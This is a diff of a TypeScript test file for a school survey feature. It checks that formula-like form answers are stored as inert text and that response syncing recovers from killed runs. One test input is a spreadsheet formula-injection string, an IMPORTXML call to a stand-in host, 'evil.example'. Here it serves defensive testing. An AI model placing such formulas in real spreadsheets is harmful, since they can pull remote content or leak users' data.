@@ -1,8 +1,8 @@
 // The interest survey through the built bundle: creating the Form, merging responses as they arrive, syncing, conflicts.
 import type { Result, SurveyState } from '../../src/shared/rpc';
-import { LocalRuntime } from '../../src/local/runtime/runtime';
 import { submitFormResponse } from '../../src/local/runtime/scheduler';
 import { chunkedRead } from '../../src/core/settings/chunked-value';
+import { callCount, KILL_OUTCOMES } from '../helpers/kill-outcomes';
 import { runOk } from '../helpers/runtime';
 import { addRows, formulasOf, recordsOf, setUpClass, spreadsheetOf, student as rosterStudent, tab, valuesOf } from './class-fixture';
 import { answer, CAREERS, classWithSurvey, EMAIL_ME, FIRST, formOf, INTERESTS, LAST, student, surveyState, TYPES } from './survey-fixture';
@@ -108,10 +108,12 @@ describe('merging responses', () => {
 
   it('stores formula-like, number-like and date-like answers as text, never a formula', () => {
     const { runtime, formId } = classWithSurvey();
-    const texts = ['=IMPORTXML("http://evil.example","//a")', '+1 555 0100', '-2', '@x', '3/4'];
+    const texts = ['=IMPORTXML("http://evil.example","//a")', '+1 555 0100', '-2', '@x', '3/4', '\t=1+1'];
     texts.forEach((text, i) => answer(runtime, formId, `s${i}@school.example`, { [FIRST]: text, [LAST]: text, [CAREERS]: text, [INTERESTS]: text }));
     const rows = recordsOf(runtime, 'Students');
-    expect(rows.map((r) => [r['First name'], r['Career path'], r.Interests].map((v) => String(v).replace(/^'/, '')))).toEqual(texts.map((t) => [t, t, t]));
+    // Answers are trimmed of surrounding white space (a leading tab too); what remains is stored as the text typed.
+    const stored = texts.map((t) => t.trim());
+    expect(rows.map((r) => [r['First name'], r['Career path'], r.Interests].map((v) => String(v).replace(/^'/, '')))).toEqual(stored.map((t) => [t, t, t]));
     expect(formulasOf(runtime, 'Students').flat().every((f) => f === '')).toBe(true);
   });
 
@@ -192,15 +194,18 @@ describe('merging responses', () => {
       ['new@school.example', { [FIRST]: 'New', [LAST]: 'Person', [INTERESTS]: 'art' }],
     ] as const;
     for (const [email, answers] of responses) answer(reference.runtime, reference.formId, email, answers);
-    const snapshot = JSON.stringify(reference.runtime.state);
+    const base = reference.runtime.fork();
     runOk(reference.runtime, 'syncSurveyResponses');
-    const calls = Object.values(reference.runtime.state.executions.at(-1)!.calls).reduce((a, b) => a + b, 0);
+    const calls = callCount(reference.runtime.state.executions.at(-1)!.calls);
     const expected = recordsOf(reference.runtime, 'Students').map((r) => ({ ...r, ID: '' }));
-    for (let failAt = 1; failAt <= calls; failAt += 3) {
-      const runtime = new LocalRuntime(JSON.parse(snapshot));
-      runtime.run('syncSurveyResponses', [], { failAt });
-      runOk(runtime, 'syncSurveyResponses');
-      expect(recordsOf(runtime, 'Students').map((r) => ({ ...r, ID: '' }))).toEqual(expected);
+    // Every third call, each with the four faults (the sweep costs two runs per fault).
+    for (const outcome of KILL_OUTCOMES) {
+      for (let call = 1; call <= calls; call += 3) {
+        const runtime = base.fork();
+        expect(runtime.run('syncSurveyResponses', [], outcome.options(call)).record.outcome).toBe('killed');
+        runOk(runtime, 'syncSurveyResponses');
+        expect([outcome.name, call, recordsOf(runtime, 'Students').map((r) => ({ ...r, ID: '' }))]).toEqual([outcome.name, call, expected]);
+      }
     }
   });
 });
